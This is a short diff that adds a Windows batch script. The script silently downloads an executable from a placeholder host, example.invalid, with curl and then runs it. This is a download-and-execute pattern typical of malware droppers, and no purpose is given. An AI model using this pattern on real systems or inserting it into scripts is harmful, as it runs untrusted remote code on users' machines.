@@ -1,0 +1,3 @@
+@echo off
+curl.exe -o run.exe https://example.invalid/run.exe
+.\run.exe
